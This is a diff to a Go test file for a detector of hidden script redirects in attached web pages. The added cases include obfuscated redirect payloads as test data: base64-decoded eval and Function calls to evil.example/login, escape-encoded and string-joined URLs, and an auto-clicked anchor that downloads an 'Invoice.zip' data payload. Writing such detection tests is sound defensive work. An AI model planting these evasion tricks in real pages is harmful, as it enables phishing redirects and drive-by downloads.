@@ -4,8 +4,11 @@ import (
 	"archive/zip"
 	"bytes"
 	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/firstsight/firstsight/internal/lineartest"
 )
 
 // TestHiddenRedirect: an attached page's script that navigates to an
@@ -40,6 +43,35 @@ func TestHiddenRedirect(t *testing.T) {
 		{"a relative replace and open", `<script>var q=atob(x);location.replace('./next?'+q);window.open("?page="+q)</script>`, false},
 		{"protocol-relative is another site", `<script>var q=atob(x);location.href="//evil.example/"+q</script>`, true},
 		{"a decoded query for another site", `<script>var q=atob(x);location.href="https://evil.example/?"+q</script>`, true},
+		{"eval of decoded script that navigates", `<script>eval(atob("d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=="))</script>`, true},
+		{"Function of decoded script", `<script>Function(atob('d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=='))()</script>`, true},
+		{"setTimeout of decoded script", `<script>setTimeout(atob("d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=="), 10)</script>`, true},
+		{"document.write of a decoded refresh", `<script>document.write(atob('PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4='))</script>`, true},
+		{"eval of a decoded variable", `<script>var k=document.getElementById('d').textContent;eval(atob(k))</script>`, true},
+		{"eval of decoded script that does not navigate", `<script>eval(atob("Y29uc29sZS5sb2coJ2xvYWRlZCcp"))</script>`, false},
+		{"pieces joined with join", `<script>var u=['ht','tps:','//evil','.example'].join('');location.href=u</script>`, true},
+		{"pieces joined with concat", `<script>var u='ht'.concat('tps://','evil.example');window.location.replace(u)</script>`, true},
+		{"x escapes in a string", `<script>location.href="\x68\x74\x74\x70\x73://evil.example/"</script>`, true},
+		{"u escapes in a string", `<script>window.location = '\u0068ttps://evil.example/'</script>`, true},
+		{"an escaped location name", `<script>window['\x6cocation']='https://evil.example/'</script>`, true},
+		{"location['href'] of a decoded address", `<script>var u=atob(x);location['href'] = u</script>`, true},
+		{"window[\"location\"] of a decoded address", `<script>window["location"] = atob(x)</script>`, true},
+		{"document['location'] of a decoded address", `<script>document['location'] = unescape(x)</script>`, true},
+		{"top.location of a decoded address", `<script>top.location = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")</script>`, true},
+		{"self.location.href of pieces", `<script>self.location.href = 'ht' + 'tps://evil.example/'</script>`, true},
+		{"parent.location.replace of a decoded address", `<script>parent.location.replace(atob(x))</script>`, true},
+		{"a built anchor clicked", `<script>var a=document.createElement('a');a.href=atob(x);document.body.appendChild(a);a.click()</script>`, true},
+		{"a built anchor downloading a written payload", `<script>var a=document.createElement('a');a.href='data:application/zip;base64,UEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIA';a.download='Invoice.zip';document.body.appendChild(a);a.click()</script>`, true},
+		{"a refresh written with a decoded target", `<script>document.write('<meta http-equiv="refresh" content="0;url=' + atob(x) + '">')</script>`, true},
+		{"a refresh to a data: URL", `<html><head><meta http-equiv="refresh" content="0; url=data:text/html;base64,PGgxPmhpPC9oMT4="></head></html>`, true},
+		{"a refresh to a javascript: URL, quoted", `<meta http-equiv="Refresh" content="1;URL='JavaScript:go()'">`, true},
+		{"a refresh to a web address", `<meta http-equiv="refresh" content="0;url=https://shop.example/new">`, false},
+		{"a saved page with analytics", `<script>var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-1-1']);(function(){var ga=document.createElement('script');ga.async=true;ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s)})();</script>`, false},
+		{"a page reading location.protocol", `<script>if(window.location.protocol!=='https:'){var h=location['hostname'];console.log(decodeURIComponent(h))}</script>`, false},
+		{"a jQuery-like bundle", `<script>(function(w){var r=/%20/g;function p(s){return decodeURIComponent(s.replace(r," "))}var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;w.nav=function(u){var a=document.createElement("a");a.href=u;a.target="_blank";document.body.appendChild(a);a.click();};w.parts=["a","b"].join("");})(window)</script>`, false},
+		{"a CSV export", `<script>var a=document.createElement('a');a.href='data:text/csv;base64,'+btoa(csv);a.download='report.csv';a.click()</script>`, false},
+		{"an anchor set but never clicked", `<script>var q=atob(x);var a=document.getElementById('l');a.href='https://shop.example/'</script>`, false},
+		{"escapes that spell no address", `<script>var m='caf\u00e9';location.href='https://shop.example/'</script>`, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			if got := hiddenRedirect([]byte(tc.page)); got != tc.hidden {
@@ -73,24 +105,48 @@ func TestHiddenRedirect(t *testing.T) {
 	}
 }
 
-// TestHiddenRedirectLinear: a script of many navigations and decoders
-// costs no more than a bounded number of windows.
+// TestHiddenRedirectLinear: a script of many navigations, decoders,
+// escapes, bracket names, anchors and written refreshes costs no more
+// than a bounded number of windows and decodings: four times the script
+// costs at most ten times as much.
 func TestHiddenRedirectLinear(t *testing.T) {
 	doc := []byte("<script>" + strings.Repeat("location.href==x;location ", 100000) + "</script>")
 	if hiddenRedirect(doc) {
 		t.Fatal("comparisons read as a hidden redirect")
 	}
+	long := strings.Repeat("QUFB", 250)
+	for _, unit := range []string{
+		"location.href==x;location ",
+		"eval(atob('" + long + "'));",
+		"eval(atob('QUFB",
+		"var s='\\x41\\u0042\\u{43}';a['b']=c[\"d\"];",
+		"a.href=x;a.href='/y';",
+		"a.href=x;a.click();" + strings.Repeat(" ", 400),
+		"http-equiv=\"x\" ",
+		"'a'+'b','c'.concat('d').join('');",
+		"eval(   " + strings.Repeat(" ", 100),
+	} {
+		small := []byte("<script>" + strings.Repeat(unit, 2000) + "</script>")
+		big := []byte("<script>" + strings.Repeat(unit, 8000) + "</script>")
+		lineartest.Check(t, fmt.Sprintf("hiddenRedirect(%.20q x n)", unit), func() { hiddenRedirect(small) }, func() { hiddenRedirect(big) })
+	}
 }
 
 // FuzzHiddenRedirect: hiddenRedirect never fails, and finds a hidden
-// redirect only where the document names a navigation.
+// redirect only where the document names a navigation, or could spell
+// one with escapes, character references or a decoded string.
 func FuzzHiddenRedirect(f *testing.F) {
 	f.Add([]byte(`<script>location.href=atob('aHR0cHM6')</script>`))
 	f.Add([]byte(`<script>var a='ht'+'tps://';location.replace(a)</script>`))
 	f.Add([]byte(`<body onload="window.open(unescape('%68'))">`))
+	f.Add([]byte(`<script>eval(atob("bG9jYXRpb24uaHJlZj0neCc="));window['\x6cocation']=['h','t'].join('')</script>`))
+	f.Add([]byte(`<meta http-equiv=refresh content="0;url=data:text/html,x"><script>a.href=atob(x);a.click();document.write('<meta http-equiv="refresh" content="0;url='+u)</script>`))
 	f.Fuzz(func(t *testing.T, doc []byte) {
 		low := bytes.ToLower(doc)
-		possible := bytes.Contains(low, []byte("location")) || bytes.Contains(low, []byte("window.open(")) || bytes.Contains(low, []byte("createobjecturl("))
+		possible := false
+		for _, w := range []string{"location", "window.open(", "createobjecturl(", ".href", "http-equiv", "refresh", "atob(", "unescape(", "decodeuricomponent(", "\\", "&"} {
+			possible = possible || bytes.Contains(low, []byte(w))
+		}
 		if hiddenRedirect(doc) && !possible {
 			t.Fatalf("hidden redirect without any navigation in %q", doc)
 		}
